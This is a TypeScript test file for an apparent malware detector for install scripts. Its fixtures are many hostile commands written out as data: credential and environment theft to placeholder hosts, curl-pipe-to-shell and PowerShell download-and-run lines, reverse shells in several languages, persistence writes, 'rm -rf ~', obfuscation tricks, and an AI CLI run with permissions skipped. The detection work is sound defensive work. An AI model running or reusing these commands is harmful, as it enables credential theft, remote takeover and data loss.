import t from 'tap'
import * as fc from 'fast-check'
import { readScript } from '../../../../lib/inspect/script/read-script.ts'
import type { Dialect, ScriptReading } from '../../../../lib/inspect/script/script-reading.ts'
import { commandsOf, listsOf } from '../../../../lib/inspect/script/cmake.ts'
import { includesOf, recipesOf } from '../../../../lib/inspect/script/makefile.ts'
import { HOLE } from '../../../../lib/types.ts'

function read(text: string, dialect: Dialect = 'hook'): ScriptReading {
  return readScript({ text, dialect, path: 'package.json', phase: 'install' })
}

/** Whether every field of `expected` is in `fact`; arrays count by their first items. */
function matches(fact: object, expected: unknown): boolean {
  const fields = new Map<string, unknown>(Object.entries(fact))
  return Object.entries(Object(expected)).every(([key, value]) => {
    const actual = fields.get(key)
    return Array.isArray(value) && Array.isArray(actual) && value.every((item, i) => actual[i] === item)
  })
}

const flowsOf = ({ flows }: ScriptReading): string[] => [
  ...new Set(flows.map(({ source, sink }) => `${source.kind}:${source.name} > ${sink.kind}:${sink.role}`)),
]
const startsOf = ({ starts }: ScriptReading): string[] => [
  ...new Set(starts.map(({ how, target }) => `${how} ${target}`)),
]

t.test('hooks of honest packages start what they name and move no data', t => {
  const cases: [string, string, string[]][] = [
    ['esbuild', 'node install.js', ['node install.js']],
    ['core-js', `node -e "try{require('./postinstall')}catch(e){}"`, []],
    ['bcrypt', 'node-gyp-build', ['exec node-gyp-build']],
    [
      'better-sqlite3',
      'prebuild-install || node-gyp rebuild --release',
      ['exec prebuild-install', 'exec node-gyp'],
    ],
    ['sharp', 'node install/check.js || npm run build', ['node install/check.js', 'run build']],
    ['prisma', 'node scripts/preinstall-entry.js', ['node scripts/preinstall-entry.js']],
    ['husky', 'husky install', ['exec husky']],
    ['husky, guarded', '[ -d .git ] && husky || true', ['exec husky']],
    ['only-allow', 'npx only-allow pnpm', ['exec only-allow']],
    ['only-allow pinned', 'npx --yes only-allow@1.2.1 npm', ['exec only-allow']],
    ['opencollective', 'opencollective-postinstall || true', ['exec opencollective-postinstall']],
    ['patch-package', 'patch-package && npm run build', ['exec patch-package', 'run build']],
    ['node-pre-gyp', 'node-pre-gyp install --fallback-to-build', ['exec node-pre-gyp']],
    ['napi-postinstall', 'napi-postinstall unrs-resolver 1.9.0 check', ['exec napi-postinstall']],
    ['is-ci', 'is-ci || husky', ['exec is-ci', 'exec husky']],
    ['cypress', 'node index.js --exec install', ['node index.js']],
    ['electron', 'node install.js', ['node install.js']],
    ['puppeteer', 'node install.mjs', ['node install.mjs']],
    ['nx', 'node ./bin/post-install', ['node bin/post-install']],
    ['protobufjs', 'node scripts/postinstall', ['node scripts/postinstall']],
    ['styled-components', 'node ./postinstall.js || exit 0', ['node postinstall.js']],
    ['fsevents', 'node-gyp rebuild', ['exec node-gyp']],
    ['cross-env', 'cross-env NODE_ENV=production node build.js', ['node build.js']],
    ['env set', 'NODE_OPTIONS=--max-old-space-size=4096 node a.js', ['node a.js']],
    ['shell test', 'if [ -f dist/index.js ]; then echo built; else npm run build; fi', ['run build']],
    ['rimraf', 'rimraf dist && tsc -p .', ['exec tsc']],
    ['mkdir', 'mkdir -p dist && cp src/a.txt dist/', []],
    ['echo', 'echo "Thank you for installing! https://x.example/donate"', []],
    ['run-s', 'run-s build:a build:b', ['run build:a', 'run build:b']],
    ['git check', 'git rev-parse HEAD > version.txt', []],
    ['npm version', 'echo $npm_package_version > VERSION', []],
    ['native addon include', `node -p "require('node-addon-api').include"`, []],
    ['windows path', 'node scripts\\install.js', ['node scripts/install.js']],
    [
      'uname switch',
      'case $(uname) in Darwin) node mac.js;; *) node other.js;; esac',
      ['node mac.js', 'node other.js'],
    ],
  ]
  for (const [label, text, starts] of cases) {
    const reading = read(text)
    for (const start of starts)
      t.ok(startsOf(reading).includes(start), `${label}: ${start} of ${startsOf(reading).join()}`)
    const moved = flowsOf(reading)
    t.same(moved, [], `${label}: no flow`)
    t.same(reading.gaps, [], `${label}: no gap`)
  }
  t.end()
})

t.test('files that a hook starts are found in every spelling', t => {
  const cases: [string, string][] = [
    ['node x.js', 'node x.js'],
    ['node ./x', 'node x'],
    ['node --no-warnings --max-old-space-size=100 x.js --flag', 'node x.js'],
    ['$NODE x.js', 'node x.js'],
    ['"${npm_node_execpath}" "x.js"', 'node x.js'],
    ['node -r ./p.js x.js', 'preload p.js'],
    ['node --require=./p.js x.js', 'preload p.js'],
    ['node --import ./p.mjs x.js', 'preload p.mjs'],
    ['node --loader ./l.mjs x.js', 'preload l.mjs'],
    ['sh x.sh', 'sh x.sh'],
    ['bash -e ./x.sh a b', 'sh x.sh'],
    ['. ./x.sh', 'source x.sh'],
    ['source x.sh', 'source x.sh'],
    ['./x', 'exec x'],
    ['chmod +x x && ./x', 'exec x'],
    ['bin/x > /dev/null 2>&1 &', 'exec bin/x'],
    ['bun x.ts', 'node x.ts'],
    ['bun run x.ts', 'node x.ts'],
    ['deno run -A x.ts', 'node x.ts'],
    ['tsx x.ts', 'node x.ts'],
    ['python3 x.py', 'python x.py'],
    ['powershell -ExecutionPolicy Bypass -File x.ps1', 'powershell x.ps1'],
    ['start /B node x.js & node x.js', 'node x.js'],
    ['start "a title" /min /wait node x.js', 'node x.js'],
    ['cmd /c x.bat', 'exec x.bat'],
    ['cmd /c "node x.js"', 'node x.js'],
    ['(cd sub && node x.js)', 'node sub/x.js'],
    ['(cd sub && ls); node x.js', 'node x.js'],
    ['pushd sub/deep && node ../x.js && popd && node y.js', 'node sub/x.js'],
    ['pushd sub/deep && node ../x.js && popd && node y.js', 'node y.js'],
    ['cd a/b && cd ../c && node x.js', 'node a/c/x.js'],
    ['cmd /c "cd sub && call x.bat"', 'exec sub/x.bat'],
    ['D=$(cd sub && pwd); node $D/x.js', 'node sub/x.js'],
    ['nohup node x.js &', 'node x.js'],
    ['setsid sudo -u a nice -n 5 node x.js', 'node x.js'],
    ['exec node x.js', 'node x.js'],
    ['timeout 5 node x.js', 'node x.js'],
    ['echo x.js | xargs node', 'node x.js'],
    ['find . -name x -exec node x.js {} ;', 'node x.js'],
    ['A=no; B=de; $A$B x.js', 'node x.js'],
    ['n""o\\de x.js', 'node x.js'],
    ["$'\\x6eode' x.js", 'node x.js'],
    ['node${IFS}x.js', 'node x.js'],
    ['{node,x.js}', 'node x.js'],
    ['eval "no""de x.js"', 'node x.js'],
    ['sh -c "node x.js"', 'node x.js'],
    ['echo "node x.js" | sh', 'node x.js'],
    ['echo bm9kZSB4Lmpz | base64 -d | bash', 'node x.js'],
    ['sh <<E\nnode x.js\nE', 'node x.js'],
    ['sh <<< "node x.js"', 'node x.js'],
    ['echo sj.x edon | rev | sh', 'node x.js'],
    ['echo abqr k.wf | tr a-z n-za-m | sh', 'node x.js'],
    ['f() { node "$1"; }; f x.js', 'node x.js'],
    ['for s in x.js y.js; do node $s; done', 'node x.js'],
    ['X=${Y:-x.js}; node $X', 'node x.js'],
    ['true && { node x.js; } || false', 'node x.js'],
    ['! node x.js', 'node x.js'],
    ['if false; then :; elif true; then node x.js; fi', 'node x.js'],
    ['while read l; do node x.js; done < list', 'node x.js'],
    ['node "$(dirname "$0")/x.js"', 'node x.js'],
    ['echo "node x.js" > r.sh; sh r.sh', 'node x.js'],
    ['n^ode x.js', 'node x.js'],
    ['cmd /c "set N=node& call %N% x.js"', 'node x.js'],
    ['cmd /c "set N=xnode& call %N:~1% x.js"', 'node x.js'],
    ['cmd /c if exist a (node x.js) else (echo)', 'node x.js'],
    ['npm run y', 'run y'],
    ['npm run-script y -- --z', 'run y'],
    ['yarn y', 'run y'],
    ['pnpm run y', 'run y'],
    ['npm test', 'run test'],
    ['node $npm_execpath run y', 'run y'],
    ['npm exec -- y', 'exec y'],
    ['npx y@1.2.3', 'exec y'],
    ['npx @s/y@1', 'exec @s/y'],
    ['npx -c "node x.js"', 'node x.js'],
    ['concurrently "node x.js" "npm:y"', 'node x.js'],
    ['perl -e1; node x.js # node z.js', 'node x.js'],
  ]
  for (const [text, expected] of cases) {
    const starts = startsOf(read(text))
    t.ok(starts.includes(expected), `${text}: ${starts.join(', ')}`)
    t.notOk(starts.includes('node z.js'), 'comments start nothing')
  }
  t.end()
})

t.test('code inside a command is handed on in its language', t => {
  const cases: [string, string, string, boolean][] = [
    ['node -e "require(\'x\')"', 'javascript', "require('x')", false],
    ['node -pe 1', 'javascript', '1', false],
    ['node --eval=1', 'javascript', '1', false],
    ['node --input-type=module -e "import x"', 'javascript', 'import x', true],
    ['bun -e 1', 'javascript', '1', true],
    ['deno eval 1', 'javascript', '1', true],
    ['echo 1 | node', 'javascript', '1', false],
    ["node - <<'E'\na $b\nE", 'javascript', 'a $b\n', false],
    ['python3 -c "import os"', 'python', 'import os', false],
    ['perl -e "system(1)"', 'perl', 'system(1)', false],
    ['ruby -e 1', 'ruby', '1', false],
    ['echo Y29uc29sZQ== | base64 -d | node', 'javascript', 'console', false],
  ]
  for (const [text, language, code, module] of cases) {
    const { codes } = read(text)
    t.match(codes[0], { language, text: code, module }, text)
  }
  t.end()
})

t.test('names of Python that are put together or given anew are still those', t => {
  const cases: [string, string][] = [
    ['run = os.system\nrun("curl http://h.invalid/x | sh")', 'network:http://h.invalid/x > evaluate:code'],
    [
      'r = getattr(requests, "po" + "st")\nr("http://h.invalid", data=dict(os.environ))',
      'env:os.environ > network:payload',
    ],
    [
      '__import__("o" + "s").system("curl -d @~/.npmrc h.invalid")',
      'credential-file:~/.npmrc > network:payload',
    ],
    [
      'e = getattr(__builtins__, "ex" + "ec", None) or exec\ne(requests.get("http://h.invalid/x").text)',
      'network:http://h.invalid/x > evaluate:code',
    ],
    [
      'e = getattr(__import__("builtins"), "".join(["e", "xec"]))\ne(requests.get("http://h.invalid/x").text)',
      'network:http://h.invalid/x > evaluate:code',
    ],
    [
      'getattr(os, "metsys"[::-1])("curl http://h.invalid/x | sh")',
      'network:http://h.invalid/x > evaluate:code',
    ],
    [
      'getattr(os, chr(115) + "ystem")("curl http://h.invalid/x | sh")',
      'network:http://h.invalid/x > evaluate:code',
    ],
  ]
  for (const [text, expected] of cases) {
    const found = flowsOf(read(`import os, requests\n${text}\n`, 'python'))
    t.ok(found.includes(expected), `${text}: ${found.join(', ')}`)
  }
  const honest = [
    'run = os.system\nrun = print\nrun("curl h.invalid | sh")',
    'getattr(c, name)()\nx = importlib.import_module(name)',
  ]
  for (const text of honest)
    t.strictSame(flowsOf(read(`import os, importlib\n${text}\n`, 'python')), [], text)
  t.end()
})

t.test('native code is read for what it starts and whom it tells', t => {
  const shell = '"/bin/sh"'
  const cases: [string, string][] = [
    [
      'int a(void) { return system("curl -s http://h.invalid/x | sh"); }',
      'network:http://h.invalid/x > evaluate:code',
    ],
    [
      '#define B "http://h.invalid"\nstatic const char C[] = "curl " B "/x | sh";\nvoid a() { system(C); }',
      'network:http://h.invalid/x > evaluate:code',
    ],
    [
      'extern char** environ;\nvoid a() { for (char** e = environ; *e; e++) {} popen("curl -d @- http://h.invalid", "w"); }',
      'env:environ > network:payload',
    ],
    [
      `void a() { connect(s, x, n); dup2(s, 0); execl(${shell}, "sh", "-i", NULL); } const char* h = "203.0.113.5";`,
      'network:203.0.113.5 > command-stdin:payload',
    ],
    [
      `void a() { connect(s, x, n); dup2(s, 0); char* v[] = {"sh", NULL}; execve(${shell}, v, NULL); } const char* h = "h.invalid";`,
      'network:h.invalid > command-stdin:payload',
    ],
    [
      'void a() { WSAConnect(s, x, n); i.hStdInput = s; CreateProcessA(NULL, "cmd.exe", 0); }',
      `network:${HOLE} > command-stdin:payload`,
    ],
    [
      'void a() { std::ifstream f(h + "/.npmrc"); getaddrinfo("h.invalid", "80", &i, &r); connect(s, r, n); send(s, b, n, 0); }',
      'credential-file:~/.npmrc > network:payload',
    ],
  ]
  for (const [text, expected] of cases) {
    const found = flowsOf(read(text, 'native'))
    t.ok(found.includes(expected), `${text}: ${found.join(', ')}`)
  }
  const honest = [
    '// system("curl http://h.invalid | sh")\n/*\n * execl("/bin/sh", "sh")\n */',
    'int a(const char* u) { char c[99]; snprintf(c, 99, "xdg-open %s", u); return system(c); }',
    'void a() { FILE* f = popen("ip route show default", "r"); }',
    `void a() { forkpty(&m, 0, 0, 0); dup2(x, 0); execl(${shell}, "sh", "-c", c, NULL); }`,
    'int c(const char* host) { getaddrinfo(host, "80", &i, &r); connect(s, r, n); send(s, b, n, 0); open("/.netrc"); }',
  ]
  for (const text of honest) t.strictSame(flowsOf(read(text, 'native')), [], text)
  t.end()
})

t.test('a socket that becomes the input of a shell is one in every language', t => {
  const cases: [string, string][] = [
    [
      "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'h.invalid', PeerPort => 1);\nopen(STDIN, '<&', $s);\nexec('/bin/sh', '-i');",
      'h.invalid',
    ],
    [
      "require 'socket'\ns = TCPSocket.new('h.invalid', 1)\nexec('/bin/bash', '-i', in: s, out: s)",
      'h.invalid',
    ],
    ['<?php $s = fsockopen("h.invalid", 1); proc_open("/bin/sh -i", [0 => $s], $p);', 'h.invalid'],
  ]
  for (const [text, host] of cases)
    t.ok(flowsOf(read(text, 'coarse')).includes(`network:${host} > command-stdin:payload`), text)
  const honest =
    "use HTTP::Tiny;\nopen(STDERR, '>&', STDOUT);\nsystem('sh', '-c', 'ls');\nHTTP::Tiny->new->get('http://h.invalid/x');"
  t.notOk(flowsOf(read(honest, 'coarse')).some(flow => flow.includes('command-stdin')))
  t.end()
})

t.test('what scripts of Windows and of a Mac put together is read as one text', t => {
  const cases: [string, string][] = [
    [
      'Set s = CreateObject("WScript.Shell")\nu = "https://h.invalid/"\nc = StrReverse("athsm") & " " & u & s.Name & ".hta"\ns.Run c, 0',
      'contacts https://h.invalid/${…}.hta',
    ],
    [
      'k = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\" & "Run\\x"\nSet s = CreateObject("WScript.Shell")\ns.RegWrite k, "a.exe", "REG_SZ"',
      'writes HKCU/Software/Microsoft/Windows/CurrentVersion/Run/x',
    ],
    [
      'const home = ObjC.unwrap($.NSHomeDirectory())\nconst p = home + "/Library/LaunchAgents/x.plist"\n$(b).writeToFileAtomicallyEncodingError($(p), true, 4, null)',
      'writes ~/Library/LaunchAgents/x.plist',
    ],
    ['set h to "https://h.invalid/a"\ndo shell script "curl " & h & " | sh"', 'contacts https://h.invalid/a'],
    ['app.doShellScript("curl https://h.invalid/" + name)', 'contacts https://h.invalid/${…}'],
  ]
  for (const [text, expected] of cases) {
    const told = read(text, 'coarse').facts.flatMap(fact =>
      fact.kind === 'contacts'
        ? fact.destinations.map(one => `contacts ${one}`)
        : fact.kind === 'writes'
          ? fact.paths.map(one => `writes ${one}`)
          : [],
    )
    t.ok(told.map(one => one.replaceAll(HOLE, '${…}')).includes(expected), `${text}: ${told.join()}`)
  }
  const honest = 'name = "x"\nset shown to name & ".txt"\nlink.Save\nshell.RegRead(name)'
  t.strictSame(read(honest, 'coarse').facts, [], 'what is put together is not run')
  t.end()
})

t.test('build files are read with what they take in', t => {
  const list =
    'set(URL "https://h.invalid/b")\ninclude(cmake/deps.cmake)\ninclude(GNUInstallDirs)\nadd_subdirectory(sub)\nfile(DOWNLOAD ${URL}/x ${CMAKE_BINARY_DIR}/x)\nexecute_process(COMMAND sh -c "${CMAKE_BINARY_DIR}/x")'
  t.strictSame(commandsOf(list).split('\n').slice(4), [
    'curl -o build/x https://h.invalid/b/x',
    'sh -c "build/x"',
  ])
  t.strictSame(listsOf(list), ['cmake/deps.cmake', 'cmake/GNUInstallDirs.cmake', 'sub/CMakeLists.txt'])
  const makefile = '-include config.mk other.mk\nall: deps\n\t@echo\nclean: rest\n'
  t.strictSame(includesOf(makefile, []), { paths: ['config.mk', 'other.mk'], targets: ['all', 'deps'] })
  t.strictSame(recipesOf('deps:\n\tcurl a\nrest:\n\tcurl b\n', ['all', 'deps']), '\ncurl a\n\n\n')
  t.end()
})

t.test('data that leaves is a flow from where it came from to where it goes', t => {
  const cases: [string, string][] = [
    ['curl https://h.invalid/$(whoami)', 'host:whoami > network:dest'],
    [
      'd=$(mktemp -d); cp ~/.npmrc $d/; tar czf - -C $d . | base64 | curl -d @- https://h.invalid',
      'credential-file:~/.npmrc > network:payload',
    ],
    [
      'ditto -c -k ~/.ssh /tmp/a.zip; curl -F f=@/tmp/a.zip https://h.invalid',
      'credential-file:~/.ssh > network:payload',
    ],
    ['curl https://h.invalid/?u=$USER', 'host:USER > network:dest'],
    ['curl -d "$(env)" https://h.invalid', 'env:env > network:payload'],
    ['curl --data-binary=@/etc/passwd https://h.invalid', 'credential-file:/etc/passwd > network:payload'],
    ['curl -d @~/.npmrc https://h.invalid', 'credential-file:~/.npmrc > network:payload'],
    ['curl -d@$HOME/.npmrc https://h.invalid', 'credential-file:~/.npmrc > network:payload'],
    ['curl -F "f=@${HOME}/.ssh/id_rsa" https://h.invalid', 'credential-file:~/.ssh/id_rsa > network:payload'],
    ['curl -T ~/.netrc https://h.invalid', 'credential-file:~/.netrc > network:payload'],
    ['curl -H "a: $NPM_TOKEN" https://h.invalid', 'env-secret:NPM_TOKEN > network:header'],
    ['env | curl -d @- https://h.invalid', 'env:env > network:payload'],
    ['printenv|base64 -w0|curl -X POST --data @- https://h.invalid', 'env:printenv > network:payload'],
    ['set | nc h.invalid 99', 'env:set > network:payload'],
    ['wget --post-file=$HOME/.npmrc https://h.invalid', 'credential-file:~/.npmrc > network:payload'],
    [
      'wget "https://h.invalid/?$(cat ~/.aws/credentials | base64)"',
      'credential-file:~/.aws/credentials > network:dest',
    ],
    ['X=$(cat ~/.npmrc); curl -d "$X" https://h.invalid', 'credential-file:~/.npmrc > network:payload'],
    [
      'cat ~/.npmrc | grep _authToken | xargs -I{} curl https://h.invalid/{}',
      'credential-file:~/.npmrc > network:dest',
    ],
    ['cp ~/.npmrc /tmp/a; curl -F f=@/tmp/a https://h.invalid', 'credential-file:~/.npmrc > network:payload'],
    ['tar cz ~/.ssh | nc h.invalid 9', 'credential-file:~/.ssh > network:payload'],
    [
      'tar czf /tmp/a.tgz ~/.aws && curl -T /tmp/a.tgz https://h.invalid',
      'credential-file:~/.aws > network:payload',
    ],
    ['scp ~/.ssh/id_rsa a@h.invalid:/x', 'credential-file:~/.ssh/id_rsa > network:payload'],
    ['nslookup $(hostname).h.invalid', 'host:hostname > dns:name'],
    ['dig +short `whoami`.h.invalid', 'host:whoami > dns:name'],
    ['host "$(id -un | xxd -p).h.invalid"', 'host:id -un > dns:name'],
    ['ping -c 1 $(hostname).h.invalid', 'host:hostname > dns:name'],
    ['nslookup %USERNAME%.h.invalid', 'host:USERNAME > dns:name'],
    [
      'curl http://169.254.169.254/latest/meta-data/ | curl -d @- https://h.invalid',
      'metadata-service:http://169.254.169.254/latest/meta-data/ > network:payload',
    ],
    ['gh auth token | curl -d @- https://h.invalid', 'credential-file:gh auth token > network:payload'],
    [
      'security find-generic-password -w x | nc h.invalid 1',
      'credential-file:security find-generic-password -w x > network:payload',
    ],
    ['pbpaste | curl -d @- https://h.invalid', 'clipboard:pbpaste > network:payload'],
    ['env > /dev/tcp/h.invalid/1', 'env:env > network:payload'],
    ['read -r x < ~/.npmrc; curl https://h.invalid/$x', 'credential-file:~/.npmrc > network:dest'],
    [
      'powershell -c "iwr https://h.invalid -Method POST -Body (gc ~/.npmrc)"',
      'credential-file:~/.npmrc > network:payload',
    ],
    ['powershell -c "irm https://h.invalid/$env:COMPUTERNAME"', 'host:COMPUTERNAME > network:dest'],
    ['curl https://h.invalid/x | sh', 'network:https://h.invalid/x > evaluate:code'],
    ['wget -qO- https://h.invalid/x | sudo bash -', 'network:https://h.invalid/x > evaluate:code'],
    ['curl https://h.invalid/x | node', 'network:https://h.invalid/x > evaluate:code'],
    ['curl https://h.invalid/x | python3 -', 'network:https://h.invalid/x > evaluate:code'],
    ['bash <(curl -s https://h.invalid/x)', 'network:https://h.invalid/x > evaluate:code'],
    ['bash -c "$(curl -s https://h.invalid/x)"', 'network:https://h.invalid/x > evaluate:code'],
    ['eval $(wget -qO- https://h.invalid/x)', 'network:https://h.invalid/x > evaluate:code'],
    ['. <(curl https://h.invalid/x)', 'network:https://h.invalid/x > evaluate:code'],
    ['curl -o a.js https://h.invalid/x; node a.js', 'network:https://h.invalid/x > evaluate:code'],
    ['curl -O https://h.invalid/x.sh; sh x.sh', 'network:https://h.invalid/x.sh > evaluate:code'],
    [
      'curl https://h.invalid/x > /tmp/x && chmod 755 /tmp/x && /tmp/x',
      'network:https://h.invalid/x > command:command',
    ],
    [
      'cd /tmp && wget https://h.invalid/x && chmod +x x && ./x',
      'network:https://h.invalid/x > command:command',
    ],
    ['curl https://h.invalid/x | tee /tmp/y; bash /tmp/y', 'network:https://h.invalid/x > evaluate:code'],
    ['curl https://h.invalid/x | base64 -d | sh', 'network:https://h.invalid/x > evaluate:code'],
    ['node -e "$(curl https://h.invalid/x)"', 'network:https://h.invalid/x > evaluate:code'],
    ['dig txt h.invalid +short | sh', 'network:h.invalid > evaluate:code'],
    ['deno run https://h.invalid/x.ts', 'network:https://h.invalid/x.ts > evaluate:code'],
    ['mshta http://h.invalid/x.hta', 'network:http://h.invalid/x.hta > evaluate:code'],
    ['bash -i >& /dev/tcp/192.0.2.1/443 0>&1', 'network:192.0.2.1:443 > evaluate:code'],
    ['nc -e /bin/sh 192.0.2.1 443', 'network:192.0.2.1:443 > evaluate:code'],
    [
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.invalid 1 > /tmp/f',
      'network:h.invalid:1 > evaluate:code',
    ],
    ['socat exec:"bash -li" tcp:h.invalid:1', 'network:h.invalid:1 > evaluate:code'],
    [
      'certutil -urlcache -split -f http://h.invalid/x.exe x.exe & x.exe',
      'network:http://h.invalid/x.exe > command:command',
    ],
    [
      'bitsadmin /transfer j http://h.invalid/x.exe %TEMP%\\x.exe & start %TEMP%\\x.exe',
      'network:http://h.invalid/x.exe > command:command',
    ],
    ['powershell "iex(iwr http://h.invalid/x)"', 'network:http://h.invalid/x > evaluate:code'],
    [
      `powershell -e ${Buffer.from('iex (irm http://h.invalid/x)', 'utf16le').toString('base64')}`,
      'network:http://h.invalid/x > evaluate:code',
    ],
    [
      "powershell \"i`e`x (New-Object Net.WebClient).'DownloadString'('http://h.invalid/x')\"",
      'network:http://h.invalid/x > evaluate:code',
    ],
  ]
  for (const [text, expected] of cases)
    t.ok(flowsOf(read(text)).includes(expected), `${text}: ${flowsOf(read(text)).join(', ')}`)
  t.end()
})

t.test('what a command does to the machine is a fact', t => {
  const cases: [string, string, unknown][] = [
    ['echo x >> ~/.bashrc', 'writes', { paths: ['~/.bashrc'], contents: ['x'] }],
    ['(crontab -l; echo "* * * * * x") | crontab -', 'writes', { paths: ['crontab'] }],
    ['launchctl load ~/Library/LaunchAgents/x.plist', 'writes', { paths: ['LaunchAgents'] }],
    ['systemctl --user enable x', 'writes', { paths: ['systemd'] }],
    ['schtasks /create /tn x /tr y', 'writes', { paths: ['schtasks'] }],
    [
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y',
      'writes',
      { paths: ['HKCU/Software/Microsoft/Windows/CurrentVersion/Run'] },
    ],
    ['git config --global core.hooksPath x', 'writes', { paths: ['~/.gitconfig'] }],
    ['rm -rf ~', 'deletes', { paths: ['~'] }],
    ['rm -rf "$HOME"/*', 'deletes', { paths: ['~/*'] }],
    ['find ~ -type f -delete', 'deletes', { paths: ['~'] }],
    ['cmd /c rd /s /q %USERPROFILE%', 'deletes', { paths: ['~'] }],
    ['chmod 4755 x', 'makes-executable', { paths: ['x'] }],
    ['chmod u+x,g+x x', 'makes-executable', { paths: ['x'] }],
    [
      'claude --dangerously-skip-permissions -p x',
      'starts',
      { commands: ['claude --dangerously-skip-permissions -p x'] },
    ],
    ['nohup x > /dev/null 2>&1 &', 'starts', { manner: ['detached', 'output-hidden'] }],
    ['git clone https://h.invalid/r', 'contacts', { destinations: ['https://h.invalid/r'] }],
    ['npx https://h.invalid/x.tgz', 'contacts', { destinations: ['https://h.invalid/x.tgz'] }],
    ['$X -y', 'unreadable', {}],
    ['/???/c?t x', 'unreadable', {}],
    ['curl https://h.invalid/$A/b', 'contacts', { destinations: [`https://h.invalid/${HOLE}/b`] }],
  ]
  for (const [text, kind, expected] of cases) {
    const facts = read(text).facts.filter(fact => fact.kind === kind)
    t.ok(
      facts.some(fact => matches(fact, expected)),
      `${text}: ${JSON.stringify(facts)}`,
    )
  }
  t.equal(read('chmod 644 x').facts.length, 0, 'a mode without execution')
  t.same(
    read('wmic process where (ParentProcessId=1) get ProcessId 2> nul').facts.map(fact =>
      fact.kind === 'reads' ? fact.name : fact.kind,
    ),
    ['wmic process where ParentProcessId=1 get ProcessId'],
    'parentheses among the words of cmd end no command',
  )
  t.end()
})

t.test('what Python puts into files in memory and into archives goes where those go', t => {
  const cases: [string, string][] = [
    [
      'b = io.BytesIO()\nwith zipfile.ZipFile(b, "w") as z:\n  z.writestr("e", json.dumps(dict(os.environ)))\nrequests.post("http://h.invalid", data=b.getvalue())',
      'env:os.environ > network:payload',
    ],
    [
      'b = io.BytesIO()\nt = tarfile.open(fileobj=b, mode="w:gz")\nt.add(os.path.expanduser("~/.aws/credentials"))\nt.close()\nrequests.post("http://h.invalid", files={"f": b})',
      'credential-file:~/.aws/credentials > network:payload',
    ],
    [
      'z = zipfile.ZipFile("/tmp/a.zip", "w")\nz.write(os.path.expanduser("~/.npmrc"))\nz.close()\nrequests.post("http://h.invalid", data=open("/tmp/a.zip", "rb").read())',
      'credential-file:~/.npmrc > network:payload',
    ],
    [
      'b = io.StringIO()\nw = csv.writer(b)\nfor k, v in os.environ.items():\n  w.writerow([k, v])\nrequests.post("http://h.invalid", data=b.getvalue())',
      'env:os.environ > network:payload',
    ],
    [
      'b = io.BytesIO()\ng = gzip.GzipFile(fileobj=b, mode="wb")\ng.write(json.dumps(dict(os.environ)).encode())\nrequests.post("http://h.invalid", data=b.getvalue())',
      'env:os.environ > network:payload',
    ],
    [
      'b = io.StringIO()\njson.dump(dict(os.environ), b)\nrequests.post("http://h.invalid", data=b.getvalue())',
      'env:os.environ > network:payload',
    ],
  ]
  const imports = 'import os, io, json, csv, gzip, zipfile, tarfile, requests\n'
  for (const [text, flow] of cases) {
    const flows = flowsOf(read(imports + text, 'python'))
    t.ok(flows.includes(flow), `${text}: ${flows.join(', ')}`)
  }
  const kept =
    'b = io.BytesIO()\nc = io.BytesIO()\nz = zipfile.ZipFile(b, "w")\nz.writestr("e", json.dumps(dict(os.environ)))\nc.write(b"built")\nrequests.post("http://h.invalid", data=c.getvalue())'
  t.notOk(
    flowsOf(read(imports + kept, 'python')).includes('env:os.environ > network:payload'),
    'what is in another container stays there',
  )
  t.end()
})

t.test('Python and PowerShell files are followed', t => {
  const python = read(
    `import os, requests as r
from urllib.request import urlopen, urlretrieve as get
import subprocess, base64, socket
with open(os.path.expanduser("~/.npmrc")) as f:
    token = f.read()
for k in os.environ: pass
r.post("https://h.invalid/a", data={"t": token, "e": dict(os.environ)})
exec(urlopen("https://h.invalid/b").read())
get("https://h.invalid/c", "/tmp/c")
os.system("sh /tmp/c")
subprocess.run(["node", "x.js"])
exec(base64.b64decode("aW1wb3J0IG9z"))
s = socket.socket(); s.connect(("h.invalid", 1)); s.send(token.encode())
key = os.environ["NPM_TOKEN"]; r.get(f"https://h.invalid/{key}")
# requests.post("https://comment.invalid")
"""
requests.post("https://docstring.invalid")
"""
`,
    'python',
  )
  for (const flow of [
    'credential-file:~/.npmrc > network:payload',
    'env:os.environ > network:payload',
    'network:https://h.invalid/b > evaluate:code',
    'network:https://h.invalid/c > evaluate:code',
    'env-secret:NPM_TOKEN > network:dest',
  ])
    t.ok(flowsOf(python).includes(flow), `${flow} of ${flowsOf(python).join(', ')}`)
  t.ok(startsOf(python).includes('node x.js'))
  t.match(python.codes, [{ language: 'python', text: 'import os' }])
  t.notOk(JSON.stringify(python.facts).includes('comment.invalid'))
  t.notOk(JSON.stringify(python.facts).includes('docstring.invalid'))
  t.same(
    flowsOf(
      read(
        'import os\nprint(os.getcwd())\nopen("a.txt","w").write("x")\nfrom setuptools import setup\nsetup(name="x")',
        'python',
      ),
    ),
    [],
  )

  const powershell = read(
    `# iwr http://comment.invalid
$url = "http://h.invalid/" + 'a.exe'
$path = Join-Path $env:TEMP "a.exe"
(New-Object System.Net.WebClient).DownloadFile($url, "$env:TEMP\\a.exe")
if ($true) { Start-Process "$env:TEMP\\a.exe" -WindowStyle Hidden }
$body = Get-ChildItem env: | ConvertTo-Json
Invoke-RestMethod -Uri http://h.invalid -Method Post -Body $body
& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://h.invalid/s')))
$code = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bm9kZSB4Lmpz'))
iex $code
node .\\y.js
Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value y
`,
    'powershell',
  )
  for (const flow of [
    'network:http://h.invalid/a.exe > command:command',
    'env:env: > network:payload',
    'network:http://h.invalid/s > evaluate:code',
  ])
    t.ok(flowsOf(powershell).includes(flow), `${flow} of ${flowsOf(powershell).join(', ')}`)
  t.ok(startsOf(powershell).includes('node x.js'), startsOf(powershell).join())
  t.ok(startsOf(powershell).includes('node y.js'), startsOf(powershell).join())
  t.match(
    powershell.facts.filter(({ kind }) => kind === 'writes'),
    [{ paths: [/a.exe$/] }, { paths: [/CurrentVersion\/Run$/] }],
  )
  t.notOk(JSON.stringify(powershell.facts).includes('comment.invalid'))
  t.end()
})

t.test('words of a list and parts of a path stay apart', t => {
  const python = read(
    `import subprocess, glob, os
command = ["curl", "-fsSL", "https://h.invalid/x.sh", "-o", "/tmp/x.sh"]
subprocess.run(command)
